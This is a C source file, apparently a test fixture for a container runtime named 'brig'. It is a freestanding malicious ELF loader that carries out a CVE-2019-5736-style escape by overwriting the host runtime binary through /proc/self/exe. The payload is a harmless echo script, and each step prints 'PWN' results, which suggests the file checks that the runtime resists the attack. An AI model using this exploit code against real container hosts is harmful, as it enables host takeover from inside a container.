/* The hostile dynamic loader of t-exe-overwrite.sh (CVE-2019-5736 class).
 *
 * The image ships this at /lib64/ld-linux-x86-64.so.2 and an entrypoint
 * starting `#!/proc/self/exe`: the kernel then runs the runtime's binary
 * (whatever /proc/self/exe of the container's process is) with this file as
 * its loader. Stage 1 keeps an fd of /proc/self/exe, tries to write it at
 * once, and execs itself as the writer (forking first unless it is the
 * container's init, so that `brig exec` sees its process end); the writer
 * reopens that fd for writing until the file is no longer busy and replaces
 * it with a script. Every step is reported on stdout as "PWN ...".
 *
 * No libc: this runs as an ELF interpreter, where a static libc would set
 * itself up from the main program's headers. x86_64 only. */
typedef unsigned long u64;

#define SYS_write 1
#define SYS_open 2
#define SYS_nanosleep 35
#define SYS_getpid 39
#define SYS_fork 57
#define SYS_execve 59
#define SYS_exit 60
#define SYS_readlink 89
#define SYS_setsid 112
#define O_RDONLY 0
#define O_WRONLY 1
#define O_TRUNC 01000
#define ETXTBSY 26

#define LOADER "/lib64/ld-linux-x86-64.so.2"

static long sys(long n, long a, long b, long c)
{
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}

static u64 len(const char *s)
{
    u64 n = 0;
    while (s[n]) n++;
    return n;
}

static void out(const char *s)
{
    sys(SYS_write, 1, (long)s, (long)len(s));
}

static void out_num(long v)
{
    char b[24];
    int i = 23;
    int neg = v < 0;
    b[i] = '\0';
    if (neg) v = -v;
    do {
        b[--i] = (char)('0' + v % 10);
        v /= 10;
    } while (v > 0);
    if (neg) b[--i] = '-';
    out(b + i);
}

static void report(const char *what, long rc)
{
    out("PWN ");
    out(what);
    out(" rc=");
    out_num(rc);
    out("\n");
}

static void sleep_ms(long ms)
{
    long ts[2] = { 0, ms * 1000000 };
    sys(SYS_nanosleep, (long)ts, 0, 0);
}

static const char payload[] = "#!/bin/sh\necho HOST-PWNED\n";

/* Reopen the runtime's binary for writing once nobody runs it (4 s at most). */
static void writer(const char *fd)
{
    char path[64] = "/proc/self/fd/";
    u64 n = len(path);
    for (u64 i = 0; fd[i] && n < sizeof(path) - 1; i++) path[n++] = fd[i];
    path[n] = '\0';
    long w = -ETXTBSY;
    for (int i = 0; i < 200 && w == -ETXTBSY; i++) {
        w = sys(SYS_open, (long)path, O_WRONLY | O_TRUNC, 0);
        if (w == -ETXTBSY) sleep_ms(20);
    }
    report("writer-open", w);
    if (w >= 0) report("writer-write", sys(SYS_write, w, (long)payload, sizeof(payload) - 1));
    out("PWN done\n");
}

__attribute__((used)) void loader_main(long *sp)
{
    long argc = sp[0];
    char **argv = (char **)(sp + 1);
    char **envp = argv + argc + 1;
    if (argc >= 2 && argv[0][0] == 'w' && argv[0][1] == '\0') {
        writer(argv[1]);
        sys(SYS_exit, 0, 0, 0);
    }
    char link[512];
    long n = sys(SYS_readlink, (long)"/proc/self/exe", (long)link, sizeof(link) - 1);
    link[n > 0 ? n : 0] = '\0';
    out("PWN exe=");
    out(link);
    out("\n");
    long fd = sys(SYS_open, (long)"/proc/self/exe", O_RDONLY, 0);    /* kept across execve */
    report("open-exe", fd);
    if (fd < 0) sys(SYS_exit, 1, 0, 0);
    /* Straight through a second open: ETXTBSY on the host binary while we
     * run it, EPERM on a sealed copy. */
    long d = sys(SYS_open, (long)"/proc/self/exe", O_WRONLY, 0);
    report("direct-open", d);
    if (d >= 0) report("direct-write", sys(SYS_write, d, (long)"PWN!", 4));
    if (sys(SYS_getpid, 0, 0, 0) != 1) {
        if (sys(SYS_fork, 0, 0, 0) != 0) sys(SYS_exit, 0, 0, 0);
        sys(SYS_setsid, 0, 0, 0);
    }
    char num[24];
    int i = 23;
    num[i] = '\0';
    do {
        num[--i] = (char)('0' + fd % 10);
        fd /= 10;
    } while (fd > 0);
    char *wargv[] = { "w", num + i, 0 };
    report("execve-writer", sys(SYS_execve, (long)LOADER, (long)wargv, (long)envp));
    sys(SYS_exit, 1, 0, 0);
}

__asm__(".text\n.globl _start\n_start:\n"
        "  xor %rbp, %rbp\n"
        "  mov %rsp, %rdi\n"
        "  and $-16, %rsp\n"
        "  call loader_main\n"
        "  hlt\n");
